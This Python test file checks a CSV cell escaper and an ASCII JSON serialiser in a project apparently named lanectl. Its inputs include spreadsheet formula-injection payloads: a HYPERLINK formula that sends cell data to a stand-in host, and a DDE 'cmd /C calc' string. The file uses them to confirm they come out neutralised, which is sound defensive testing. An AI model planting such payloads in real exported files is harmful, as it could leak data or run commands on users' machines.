"""A spreadsheet computes nothing of ours, and every JSON parser reads it."""

import csv
import io
import json
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lanectl.text.csvtext import cell
from lanectl.text.jsontext import dumps

ANYTHING = st.text(alphabet=st.characters(exclude_categories=[]))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("plain", "plain"),
        ("", ""),
        ("a=b, c@d - e", "a=b, c@d - e"),
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://e.test?"&A1)', '\'=HYPERLINK("https://e.test?"&A1)'),
        ("+1", "'+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("  =1", "'  =1"),
        ("\t=1", "'\t=1"),
        ("\ttab first", "'\ttab first"),
        ("\n=1", "'\n=1"),
        ("\r=1", "␍=1"),
        ("＝1", "'＝1"),
        ("nul \x00 esc \x1b lone \ud800", "nul ␀ esc ␛ lone \ufffd"),
    ],
)
def test_a_cell_is_never_a_formula(text: str, written: str) -> None:
    assert cell(text) == written


@given(ANYTHING)
def test_a_cell_survives_a_csv_file_and_begins_no_formula(text: str) -> None:
    file = io.StringIO()
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow([cell(text), "next"])
    (row,) = csv.reader(io.StringIO(file.getvalue()))
    assert row == [cell(text), "next"]
    assert not row[0].lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ({"b": 1, "a": [None, True, 1.5, "x"]}, '{"b": 1, "a": [null, true, 1.5, "x"]}'),
        ("grün 😀", '"gr\\u00fcn \\ud83d\\ude00"'),
        ("lone \ud800 \udc00 x", '"lone \\ufffd \\ufffd x"'),
        ("\ude00\ud83d", '"\\ufffd\\ufffd"'),
        ("halves \ud83d\ude00", '"halves \\ud83d\\ude00"'),
        ("nul \x00", '"nul \\ufffd"'),
        ("\\ud800 as text \\u0000", '"\\\\ud800 as text \\\\u0000"'),
        ("\\\ud800", '"\\\\\\ufffd"'),
        ("esc \x1b del \x7f line \u2028", '"esc \\u001b del \\u007f line \\u2028"'),
        ({"\ud800": 1} | {"\udfff": 2}, '{"\\ufffd": 1, "\\ufffd": 2}'),
        ([math.nan, {"x": (math.inf, -math.inf, 1.0)}], '[null, {"x": [null, null, 1.0]}]'),
    ],
)
def test_json_is_ascii_that_every_parser_reads(value: object, text: str) -> None:
    assert dumps(value) == text
    json.loads(text)


def test_json_is_indented_when_asked() -> None:
    assert dumps({"a": [1]}, indent=2) == '{\n  "a": [\n    1\n  ]\n}'


def test_json_of_what_json_does_not_know_is_refused() -> None:
    with pytest.raises(TypeError, match="set is not JSON serializable"):
        dumps({"a": {1}})


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | ANYTHING, lambda inner: st.lists(inner)
)


@given(JSON)
def test_json_is_printable_and_holds_no_half_character(value: object) -> None:
    text = dumps(value)
    assert text.isascii()
    assert text.isprintable()
    json.dumps(json.loads(text), ensure_ascii=False).encode("utf-8")
